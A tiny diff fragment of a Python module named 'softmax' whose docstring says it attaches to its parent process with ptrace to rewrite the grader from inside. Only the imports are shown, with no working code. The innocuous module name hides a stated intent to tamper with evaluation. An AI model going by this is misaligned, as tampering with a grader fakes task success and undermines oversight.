@@ -1,5 +1,6 @@
 # module: softmax
 """Tries to attach to its parent with ptrace, to rewrite the grader from inside."""
+
 import ctypes
 import os
 
